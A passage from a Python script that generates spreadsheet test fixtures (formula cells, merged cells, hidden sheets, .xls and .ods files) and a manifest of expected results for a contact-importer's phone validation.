        "international phones behind invisible direction marks and in full-width characters",
        {"valid": 3},
        {
            "2": {"status": "valid", "identifier": "34600100090"},
            "3": {"status": "valid", "identifier": "34600100091"},
            "4": {"status": "valid", "identifier": "34600100092"},
        },
    )


# --- accepted: workbook features ---------------------------------------------------------------------------


def saved_formulas_sheet(crowd: list[tuple[str, str, str]]) -> bytes:
    """Formulas as Excel saves them: the formula and its last computed value (<v>)."""
    (n0, _, i0), (n1, _, i1), (n2, _, _) = crowd
    first, last = n0.split(" ", 1)
    return sheet_xml(
        f'<row r="1">{inline("A1", "Name")}{inline("B1", "Phone")}{inline("C1", "First")}{inline("D1", "Last")}</row>'
        f'<row r="2"><c r="A2" t="str"><f>C2&amp;" "&amp;D2</f><v>{n0}</v></c>'
        f'<c r="B2" t="str"><f>"+"&amp;"{i0}"</f><v>+{i0}</v></c>{inline("C2", first)}{inline("D2", last)}</row>'
        f'<row r="3">{inline("A3", n1)}<c r="B3"><f>{i1}+0</f><v>{i1}</v></c></row>'
        f'<row r="4">{inline("A4", n2)}<c r="B4" t="e"><f>VLOOKUP(A4,Lists!A:B,2,FALSE)</f><v>#N/A</v></c></row>'
    )


@case("formulas_saved.xlsx")
def _formulas_saved(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    data = workbook_bytes({"Contacts": [["placeholder"]]})
    path.write_bytes(pin_zip(data, {"xl/worksheets/sheet1.xml": saved_formulas_sheet(crowd)}))
    return accepted(
        "formula cells saved by Excel (text, number and #N/A results): their saved values are read",
        {"valid": 2, "invalid": 1},
        {
            "2": {"status": "valid", "identifier": crowd[0][2], "cells": {"Name": crowd[0][0]}},
            "3": {"status": "valid", "identifier": crowd[1][2]},
            "4": {"status": "invalid", "error": "Phone: phone is required"},
        },
    )


@case("formulas_never_calculated.xlsx")
def _formulas_unsaved(path: Path, rng: random.Random) -> Expect:
    crowd = people(2)
    rows = [["Name", "Phone", "Raw"]] + [[n, f"=C{r}", i] for r, (n, _, i) in enumerate(crowd, 2)]
    path.write_bytes(workbook_bytes({"Contacts": rows}))
    # Written by a library, never opened in Excel: no saved value, so the phone reads as empty (never a guess).
    return accepted(
        "formulas written by a program and never calculated: no value, the rows are invalid and a note says why",
        {"invalid": 2},
        {"2": {"status": "invalid", "error": "Phone: phone is required"}, "3": {"status": "invalid"}},
        stdout=["2 formula cells have no saved value"],
    )


@case("merged_cells.xlsx")
def _merged(path: Path, rng: random.Random) -> Expect:
    crowd = people(3)
    rows = [["Contacts, March", None, None], ["Name", "Phone", "Team"]]
    rows += [[n, p, "Support" if k == 0 else None] for k, (n, p, _) in enumerate(crowd)]

    def merge(book: openpyxl.Workbook) -> None:
        sheet = book["Contacts"]
        sheet.merge_cells("A1:C1")  # a title across the columns
        sheet.merge_cells("C3:C5")  # one team cell beside three contacts
        sheet["A1"].font = Font(bold=True, size=14)

    path.write_bytes(workbook_bytes({"Contacts": rows}, merge))
    return accepted(
        "a merged title above the header, and a merged Team cell over three rows: the value belongs to the first "
        "row only, as Excel's own Save as CSV gives it, and a note says so",
        {"valid": 3},
        {
            "3": {"status": "valid", "identifier": crowd[0][2], "cells": {"Team": "Support"}},
            "4": {"status": "valid", "identifier": crowd[1][2], "cells": {"Team": ""}},
            "5": {"status": "valid", "identifier": crowd[2][2], "cells": {"Team": ""}},
        },
        stdout=["header on row 2", "merged cells C3:C5"],
    )


@case("hidden_sheet_first.xlsx")
def _hidden_first(path: Path, rng: random.Random) -> Expect:
    rows, idents = contacts_sheet(2)
    lists = [["Team", "Code"], ["Support", "S"], ["Ventas", "V"]]

    def hide(book: openpyxl.Workbook) -> None:
        book["Lists"].sheet_state = "hidden"

    path.write_bytes(workbook_bytes({"Lists": lists, "Contacts": rows}, hide))
    return accepted(
        "a hidden lookup sheet before the contacts: the first visible sheet is read",
        {"valid": 2},
        valid_rows(2, idents),
        stdout=["sheet 'Contacts' read (the first with data); other sheets: 'Lists' (hidden)"],
    )


@case("only_hidden_sheet_has_data.xlsx")
def _only_hidden(path: Path, rng: random.Random) -> Expect:
    rows, idents = contacts_sheet(2, 2)

    def hide(book: openpyxl.Workbook) -> None:
        book["Data"].sheet_state = "hidden"

    path.write_bytes(workbook_bytes({"Cover": [], "Data": rows}, hide))
    return accepted(
        "the visible sheet is empty and the contacts are on a hidden sheet: read, with a note",
        {"valid": 2},
        valid_rows(2, idents),
        stdout=["sheet 'Data' is hidden in the workbook"],
    )


@case("title_block.xlsx")
def _title_xlsx(path: Path, rng: random.Random) -> Expect:
    rows, idents = contacts_sheet(3)
    path.write_bytes(workbook_bytes({"Export": [["ACME CRM export"], ["2025-03-01"], [], *rows]}))
    return accepted(
        "a title block above the header: rows keep the numbers Excel shows",
        {"valid": 3},
        valid_rows(5, idents),
        stdout=["header on row 4: rows 1, 2 above it ignored"],
    )


@case("legacy.xls")
def _xls(path: Path, rng: random.Random) -> Expect:
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Hoja1")
    rows: list[list[Any]] = [["Nombre", "Teléfono", "País"], ["Ana", 34600100100.0, ""], ["Pierre", "0612345673", "FR"]]
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    buffer = io.BytesIO()
    book.save(buffer)
    path.write_bytes(buffer.getvalue())
    return accepted(
        "Excel 97-2003 (.xls, BIFF8): a float phone and a text phone with its trunk 0",
        {"valid": 2},
        {"2": {"status": "valid", "identifier": "34600100100"}, "3": {"status": "valid", "identifier": "33612345673"}},
    )


@case("libreoffice.ods")
def _ods(path: Path, rng: random.Random) -> Expect:
    rows = [
        ["string:Name", "string:Phone"],
        ["string:Ana", "float:34600100110"],
        ["string:Luis", "string:+34 600 10 01 11"],
    ]
    path.write_bytes(ods_bytes(ods_rows(rows)))
    return accepted(
        "OpenDocument (.ods): a number cell and a text cell",
        {"valid": 2},
        {"2": {"status": "valid", "identifier": "34600100110"}, "3": {"status": "valid", "identifier": "34600100111"}},
    )


# --- driver ------------------------------------------------------------------------------------------------


def generate(out: Path) -> dict[str, Any]:
    """Write every case into `out` and the manifest beside them; return the manifest."""
    out.mkdir(parents=True, exist_ok=True)
    cases = []
    for name, build in CASES:
        expect = build(out / name, random.Random(f"{SEED}:{name}"))
        cases.append({"file": name, **expect})
    manifest = {
        "command": "importer validate FILE -a sample_data/account.toml",
        "generator": "tests/data/make_corpus.py",
        "cases": cases,
    }
    text = json.dumps(manifest, indent=2, ensure_ascii=False) + "\n"
    (out / "manifest.json").write_text(text, encoding="utf-8", newline="\n")
    return manifest


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=OUT, help="directory to write into (default: %(default)s)")
    args = parser.parse_args(argv)
    manifest = generate(args.out)
    size = sum(p.stat().st_size for p in args.out.iterdir())
    print(f"wrote {len(manifest['cases'])} cases ({size / 1e6:.1f} MB) to {args.out}")


if __name__ == "__main__":
    main()
